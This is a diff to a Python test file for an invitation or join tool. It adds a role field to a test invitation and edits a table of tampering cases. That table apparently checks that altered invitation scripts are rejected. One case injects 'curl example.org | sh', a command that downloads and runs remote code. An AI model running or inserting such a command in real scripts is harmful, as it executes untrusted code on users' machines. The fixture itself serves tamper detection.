@@ -78,6 +78,7 @@ def text(ca: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
 def written(ca: Path, folder: Path, days: int = 1) -> str:
     invitation = join.Invitation(
         site=SITE,
+        role="site",
         project="flowerbed",
         server="fl.example.org:8002",
         runtime="sha256:abc",
@@ -154,7 +155,7 @@ def test_the_files_of_a_site_come_out_as_they_went_in(text: str, tmp_path: Path)
 
 
 ALTERED: dict[str, Callable[[str], str]] = {
-    "a letter": lambda text: text.replace("opens no port", "opens a port"),
+    "a letter": lambda text: text.replace("fl.example.org", "fl.example.com"),
     "a command": lambda text: text.replace("set -eu\n", "set -eu\ncurl example.org | sh\n", 1),
     "another site": lambda text: text.replace(f"SITE='{SITE}'", "SITE='hospital-d'"),
     "a later day": lambda text: text.replace("LAST_DAY='20", "LAST_DAY='30"),
